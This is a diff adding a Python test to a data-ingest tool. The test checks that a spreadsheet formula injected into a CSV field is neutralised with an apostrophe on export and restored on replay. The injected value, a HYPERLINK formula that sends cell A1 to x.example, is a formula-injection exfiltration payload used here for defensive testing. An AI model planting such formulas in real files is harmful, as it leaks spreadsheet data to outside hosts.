@@ -118,6 +118,20 @@ def test_rows_of_people_who_have_opted_out_since_are_not_shown(tmp_path):
     assert "SOUTHWARD" in said
 
 
+def test_a_formula_in_a_row_that_was_set_aside_is_no_formula_to_a_spreadsheet_and_comes_back_as_it_was(tmp_path):
+    desk = desk_with_bad_rows(tmp_path)
+    formula = '=HYPERLINK("https://x.example/?"&A1)'
+    text = (desk.place / "visits.csv").read_text()
+    (desk.place / "visits.csv").write_text(text.replace("NORTHWARD", '"' + formula.replace('"', '""') + '"'))
+    desk.run("ingest", "visits.toml", "visits.csv")
+    mended(desk, {"123": {"line": ""}, "124": {"line": ""}, "125": {"line": ""}})
+    rows = list(csv.DictReader((desk.place / "rows.csv").read_text().splitlines()))
+    assert rows[0]["ward"] == f"'{formula}"
+    desk.run("quarantine", "replay", "visits@3", "fixed.csv")
+    store = desk.node().store
+    assert formula in store.read(store.latest("visits"), ["ward"])["ward"].to_pylist()
+
+
 def test_nothing_of_a_profile_or_a_quarantine_is_in_a_log_a_metric_or_the_state(tmp_path):
     desk = desk_with_bad_rows(tmp_path)
     desk.run("quality", "show", "visits", "--html", "visits.html")
